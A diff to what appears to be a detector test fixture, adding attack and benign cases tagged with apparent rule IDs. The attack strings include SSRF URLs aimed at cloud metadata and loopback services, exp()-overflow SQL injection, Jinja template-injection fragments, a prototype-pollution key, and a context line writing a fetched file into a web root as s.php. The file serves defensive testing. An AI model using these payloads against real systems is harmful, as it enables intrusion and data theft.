@@ -730,6 +730,15 @@ export const ATTACKS: DetectorCase[] = [
     "http://example.com -o /var/www/html/s.php http://203.0.113.30/s.txt",
     "932231",
   ),
+  j("a metadata URL written with backslashes", "https:\\\\169.254.169.254\\latest\\meta-data\\", "934110", "934191"),
+  q("a loopback URL with a slash and a backslash", "http:/\\127.0.0.1:8080/actuator/env", "934190", "934191"),
+  j("a loopback URL without slashes", "http:127.0.0.1:9200/_cat/indices?v", "934190"),
+  q("exp() overflowing on a subquery", "1' and exp(~(select * from (select user())a))-- -", "942150"),
+  q("exp() overflowing on a three-digit number", "' or exp(709+if(1=1,1,0))#", "942150"),
+  q("a Jinja set of a command string", "{% set cmd = 'id' %}", "934170"),
+  q("a Jinja set of a dunder chain", "{% set x = cycler.__init__ %}", "934170"),
+  q("a Jinja set calling a function", "{% set s = dump(_context) %}", "934170"),
+  q("prototype pollution through a query name's index", "__proto__[isAdmin]", "934130"),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -1252,4 +1261,12 @@ export const BENIGN: DetectorCase[] = [
   ),
   q("alert as a word in parentheses", "Set the level (alert) for this rule"),
   q("a capitalised name in a call's parentheses", "x=(ALERT)"),
+  j("exp() in a LaTeX formula", "\\[ P(y\\mid x) = \\frac{\\exp(s(x,y))}{\\sum_{y'}\\exp(s(x,y'))} \\]"),
+  j("a review quoting a statement", "your parser maps to SELECT * FROM users; I would not call this an attack"),
+  q("a phrase search with a wildcard and fields", '"CRISPR screen" AND (neuron* OR glia) jcode:biorxiv numresults:25'),
+  q("a fielded search with a range", '"malaria vaccine" AND (PUB_YEAR:[2020 TO 2024])'),
+  j("a Klipper macro's Jinja set", "{% set max_y = printer.toolhead.axis_maximum.y|float %}"),
+  j("a Jinja set of a list with a filter", "{% set z = [printer.toolhead.position.z + 10, printer.max_z]|min %}"),
+  j("a Jinja set with a filter's default", '{% set tier = contact.subscription_tier|default("free") %}'),
+  q("a search for the name __proto__", "__proto__ vs prototype"),
 ];
